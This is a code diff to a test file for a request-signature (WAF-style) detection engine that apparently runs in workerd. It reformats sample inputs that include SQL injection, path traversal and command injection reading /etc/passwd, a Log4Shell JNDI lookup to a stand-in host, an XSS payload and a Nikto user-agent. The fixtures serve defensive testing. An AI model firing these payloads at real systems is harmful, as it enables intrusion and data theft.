@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads and rule titles are literal text, not templates
 /**
  * The signature engine inside workerd: the Wasm module comes from the
  * `.wasm` import (a WebAssembly.Module under the workers project), runs the
@@ -23,12 +24,29 @@ const SAMPLE: SignatureInput[] = [
   req({ query: [["id", "1' or '1'='1"]] }),
   req({ query: [["q", "O'Brien and sons"]] }),
   req({ rawPath: "/files/..%2f..%2fetc/passwd" }),
-  req({ headers: [["host", "h"], ["user-agent", "Mozilla/5.0 (Nikto/2.1.6)"]] }),
-  req({ headers: [["host", "h"], ["x-api-version", "${jndi:ldap://x.example/a}"]] }),
+  req({
+    headers: [
+      ["host", "h"],
+      ["user-agent", "Mozilla/5.0 (Nikto/2.1.6)"],
+    ],
+  }),
+  req({
+    headers: [
+      ["host", "h"],
+      ["x-api-version", "${jndi:ldap://x.example/a}"],
+    ],
+  }),
   req({
     method: "POST",
-    headers: [["host", "h"], ["content-type", "application/json"]],
-    body: { bytes: enc.encode('{"comment":"<img src=x onerror=alert(1)>","n":1}'), contentType: "application/json", truncated: false },
+    headers: [
+      ["host", "h"],
+      ["content-type", "application/json"],
+    ],
+    body: {
+      bytes: enc.encode('{"comment":"<img src=x onerror=alert(1)>","n":1}'),
+      contentType: "application/json",
+      truncated: false,
+    },
   }),
   req({ query: [["cmd", "x; cat /etc/passwd"]] }),
   req({ query: [["note", "please select one from the list"]] }),
